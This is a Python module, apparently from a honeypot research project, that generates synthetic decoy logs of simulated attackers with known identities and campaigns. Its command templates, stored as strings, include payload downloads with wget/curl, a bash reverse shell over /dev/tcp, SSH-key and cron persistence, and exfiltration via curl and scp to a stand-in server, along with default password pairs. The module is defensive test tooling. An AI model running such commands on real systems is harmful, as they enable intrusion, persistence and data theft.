"""This module makes labelled corpora: what decoys would have recorded of actors whose truth is known.

A fixture is TOML with ``[[actor]]`` tables; ``Actor`` says what stands in them. ``invent`` makes as many as wanted
from a seed. The records are those that the decoys make, in the order in which a decoy makes them.
"""

import hashlib
import random
import tomllib
from collections.abc import Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

from attrs import evolve, field, frozen

from decnet_actors.analysis.observations import observation_id
from decnet_actors.domain.facts import (
    CloseReason,
    CredentialSeen,
    Direction,
    DownloadRequested,
    Fact,
    FileCaptured,
    HttpRequestSeen,
    Outcome,
    SessionClosed,
    SessionOpened,
    ShellCommandSeen,
    SshClientSeen,
    TerminalSeen,
)
from decnet_actors.domain.records import Record

FOLDER = Path(__file__).parent / "data" / "clustering"
START = 1_790_000_000.0 - 1_790_000_000.0 % 86_400  # a midnight, Unix seconds
DAY, HOUR = 86_400.0, 3_600.0
OPENSSH = "SSH-2.0-custom_1.0"

# What an actor types in a phase; {w} is a word of its own, {c} where its server is.
LINES: Mapping[str, tuple[str, ...]] = {
    "delivery": ("wget http://{c}/{w} -O /tmp/{w}", "curl -s http://{c}/{w}.sh"),
    "exploitation": (),
    "execution": ("chmod 755 /tmp/{w}", "./{w} -q"),
    "persistence": ("echo {w} >> /root/.ssh/authorized_keys", "crontab /tmp/{w}.cron"),
    "command_and_control": ("bash -i >& /dev/tcp/{c}/{w}",),
    "discovery": ("ls -la /opt/{w}", "cat /etc/{w}.conf"),
    "lateral_movement": ("ssh {w}@db-02",),
    "collection": ("tar cf /tmp/{w}.tar /srv/{w}", "find / -name {w}.sql"),
    "exfiltration": ("curl -T @{w}.tar http://{c}/up", "scp {w}.tar x@{c}:/"),
}
COMMON = ("uname -a", "id", "cat /proc/cpuinfo")


@frozen(kw_only=True)
class Actor:
    """Somebody, as a fixture says."""

    id: str
    campaign: str
    identity: str = ""  # empty: the id
    addresses: tuple[str, ...]
    asns: tuple[str, ...] = ()
    hassh: tuple[str, ...] = ()  # each address has the next; empty: the client tells nothing
    version: str = OPENSSH
    http: tuple[str, ...] = ()  # names of headers in order
    credentials: tuple[str, ...] = ()  # "user:secret"; the last one opens the door
    payload: str = ""
    c2: str = ""
    word: str = ""  # that is in its commands; empty: the id
    phases: tuple[str, ...] = ("delivery",)
    days: tuple[int, ...] = (0,)
    hours: tuple[int, int] = (0, 24)
    deckies: tuple[str, ...] = ("web-01",)
    typing: int = 0  # seed of how it types; 0: it pastes
    jitter: float = 0.0  # seconds by which clocks are off


@frozen(kw_only=True)
class Truth:
    """Labels of observations."""

    identity: Mapping[str, str]
    campaign: Mapping[str, str]


@frozen(kw_only=True)
class Corpus:
    """Records in the order of their time, and the truth about them."""

    records: tuple[Record, ...]
    truth: Truth
    asns: Mapping[str, str]
    actors: tuple[Actor, ...] = field(repr=False, default=())


def fixture(name: str, seed: int = 1) -> Corpus:
    """Return the corpus of a fixture; another seed gives other moments and ids, not another truth."""
    return corpus(actors_of(name), seed)


def actors_of(name: str, *, scanners: bool = True) -> list[Actor]:
    """Return the actors of a fixture, and those of the fixtures it includes, but their scanners."""
    found = tomllib.loads((FOLDER / f"{name}.toml").read_text())
    actors = [_actor(table) for table in found.get("actor", ())]
    for other in found.get("includes", ()):
        actors += [
            evolve(
                one,
                id=f"{other}/{one.id}",
                identity=f"{other}/{one.identity or one.id}",
                campaign=f"{other}/{one.campaign}",
                word=one.word or one.id,
            )
            for one in actors_of(other, scanners=False)
        ]
    noise = found.get("noise", 0) if scanners else 0
    return [*actors, *(_scanner(number) for number in range(noise))]


def _actor(table: Mapping[str, Any]) -> Actor:  # Any: what TOML holds
    values: dict[str, Any] = {key: tuple(value) if isinstance(value, list) else value for key, value in table.items()}
    return Actor(**values)


def _scanner(number: int) -> Actor:
    """Return one of those who only try what everybody tries."""
    pairs = ("root:root", "admin:admin", "root:123456", "user:user")
    return Actor(
        id=f"scanner-{number}",
        campaign=f"scanner-{number}",
        addresses=(f"100.{64 + number // 60_000}.{number // 240 % 250}.{number % 240 + 1}",),
        asns=(f"AS{65_000 + number % 20}",),
        credentials=pairs[number % 3 : number % 3 + 2],
        phases=(),
        days=(number % 7,),
        deckies=(f"web-{number % 20:02d}",),
    )


def corpus(actors: Sequence[Actor], seed: int) -> Corpus:
    """Return what decoys record of actors."""
    rng = random.Random(seed)
    records: list[Record] = []
    identity: dict[str, str] = {}
    campaign: dict[str, str] = {}
    asns: dict[str, str] = {}
    for actor in actors:
        for place, address in enumerate(actor.addresses):
            hassh = actor.hassh[place % len(actor.hassh)] if actor.hassh else ""
            if actor.asns:
                asns[address] = actor.asns[place % len(actor.asns)]
            ident = observation_id(address, f"ssh:{hassh}" if hassh else "")
            identity[ident], campaign[ident] = actor.identity or actor.id, actor.campaign
        for turn, day in enumerate(actor.days):
            for place, address in enumerate(actor.addresses):
                if len(actor.days) > 1 and place % len(actor.days) != turn and len(actor.addresses) > 1:
                    continue  # it moves on to the next address
                hassh = actor.hassh[place % len(actor.hassh)] if actor.hassh else ""
                for decky in actor.deckies:
                    hour = rng.uniform(*actor.hours)
                    began = START + day * DAY + hour * HOUR + rng.uniform(-actor.jitter, actor.jitter)
                    records += _session(actor, address, hassh, decky, began, rng)
    records.sort(key=lambda record: (record.time, record.id))
    truth = Truth(identity=identity, campaign=campaign)
    return Corpus(records=tuple(records), truth=truth, asns=asns, actors=tuple(actors))


def _session(actor: Actor, address: str, hassh: str, decky: str, began: float, rng: random.Random) -> Iterator[Record]:
    session = f"{rng.getrandbits(128):032x}"
    now = began
    for fact in _facts(actor, hassh, rng):
        now += 0.1 if isinstance(fact, TerminalSeen) else rng.uniform(0.3, 4.0)
        if isinstance(fact, TerminalSeen):
            now += _pause(actor.typing, fact.data, rng) - 0.1
        yield Record(
            id=f"{rng.getrandbits(128):032x}", time=now, host="manager", decky=decky,
            service="http" if isinstance(fact, HttpRequestSeen) else "ssh",
            fact=fact, session=session, source=address, source_port=40_000,
        )  # fmt: skip


def _pause(typing: int, data: bytes, rng: random.Random) -> float:
    """Return how long these hands take before a key; each pair of hands has its own habits."""
    habit = hashlib.blake2b(b"%d:%s" % (typing, data), digest_size=2).digest()
    return 0.05 + habit[0] / 400 + rng.uniform(-0.004, 0.004)


def _facts(actor: Actor, hassh: str, rng: random.Random) -> Iterator[Fact]:
    yield SessionOpened(local_address="10.0.0.5", local_port=22)
    if hassh:
        yield SshClientSeen(version=actor.version, hassh=hassh, algorithms="curve25519-sha256;aes128-ctr;;none")
    if actor.http:
        yield HttpRequestSeen(
            method="GET", target="/", version="1.1", headers=tuple((name.encode(), b"x") for name in actor.http),
            body=b"", body_size=0, body_sha256=hashlib.sha256(b"").hexdigest(), status=200,
        )  # fmt: skip
    for place, pair in enumerate(actor.credentials, 1):
        user, _, secret = pair.partition(":")
        accepted = place == len(actor.credentials) and bool(actor.phases)
        outcome = Outcome.ACCEPTED if accepted else Outcome.REFUSED
        yield CredentialSeen(user=user, secret=secret.encode(), mechanism="ssh password", outcome=outcome)
    if actor.phases:
        yield ShellCommandSeen(line=rng.choice(COMMON), interactive=True)
    word = actor.word or actor.identity or actor.id
    for phase in actor.phases:
        for line in LINES[phase]:
            text = line.format(w=word, c=actor.c2 or "203.0.113.1")
            if actor.typing:
                for byte in text.encode():
                    yield TerminalSeen(direction=Direction.IN, data=bytes((byte,)))
            yield ShellCommandSeen(line=text, interactive=True)
    if actor.c2 and actor.phases:
        yield DownloadRequested(url=f"http://{actor.c2}/{word}", mechanism="wget")
    if actor.payload and actor.phases:
        sha256 = hashlib.sha256(actor.payload.encode()).hexdigest()
        yield FileCaptured(path="/tmp/x", sha256=sha256, size=100, direction=Direction.IN, mechanism="scp")
    yield SessionClosed(reason=CloseReason.PEER, duration=9.0, bytes_in=100, bytes_out=100)


def invent(seed: int, attackers: int, *, share: float = 0.4) -> list[Actor]:
    """Return actors with about ``attackers`` addresses: ``share`` of them belong to somebody, the others are scanners.

    Somebody is one of the kinds of the fixtures: moves between networks, pauses, changes programs, works in shifts with
    another, shares lists, tools or a rented server with strangers.
    """
    rng = random.Random(f"corpus {seed}")
    actors: list[Actor] = []
    left, number = int(attackers * share), 0
    while left > 0:
        number += 1
        made = list(_invented(f"{seed}-{number}", number, rng))
        actors += made
        left -= sum(len(one.addresses) for one in made)
    used = sum(len(one.addresses) for one in actors)
    return actors + [_scanner(at) for at in range(max(0, attackers - used))]


def _invented(name: str, number: int, rng: random.Random) -> Iterable[Actor]:
    size = min(2 + int(rng.paretovariate(1.2)), 60)
    base = Actor(
        id=name, campaign=name, addresses=_addresses(number, 0, size), asns=tuple(f"AS{rng.randrange(64_000, 65_000)}"
        for _ in range(rng.choice((1, size)))), hassh=(_hex(rng),), credentials=_pairs(rng), payload=f"payload {name}",
        c2=f"198.18.{number // 250 % 250}.{number % 250}", days=tuple(range(rng.choice((1, 3, size)))),
        phases=("delivery", "execution", "discovery"), deckies=(f"web-{rng.randrange(20):02d}",),
    )  # fmt: skip
    match rng.randrange(5):
        case 0:  # a crew in two shifts
            night = evolve(base, id=f"{name}n", phases=("delivery", "persistence", "command_and_control"))
            day = evolve(base, id=f"{name}d", addresses=_addresses(number, 1, size), hassh=(_hex(rng),),
                         phases=("discovery", "collection", "exfiltration"), days=tuple(one + 1 for one in base.days),
                         credentials=_pairs(rng), word=f"{name}day")  # fmt: skip
            return night, day
        case 1:  # changes programs
            return (evolve(base, hassh=tuple(_hex(rng) for _ in range(size))),)
        case 2:  # uses what everybody uses
            return (evolve(base, version="SSH-2.0-Go", hassh=("0a07365cc01fa9fc82608ba4019af499",)),)
        case 3:  # rents a server that another rents too
            other = evolve(base, id=f"{name}x", campaign=f"{name}x", addresses=_addresses(number, 1, size),
                           hassh=(_hex(rng),), payload=f"other payload {name}", word=f"{name}x",
                           credentials=_pairs(rng))  # fmt: skip
            return base, other
        case _:
            return (base,)


def _addresses(number: int, part: int, size: int) -> tuple[str, ...]:
    return tuple(
        f"{20 + number // 60_000}.{number // 240 % 250}.{number % 240}.{100 * part + at}" for at in range(size)
    )


def _pairs(rng: random.Random) -> tuple[str, ...]:
    shared = [f"root:{word}" for word in ("Zaq12wsx", "changeme1", "admin2020", "server01", "letmein!")]
    return (*rng.sample(shared, 2), f"root:{rng.getrandbits(24):06x}")


def _hex(rng: random.Random) -> str:
    return f"{rng.getrandbits(128):032x}"
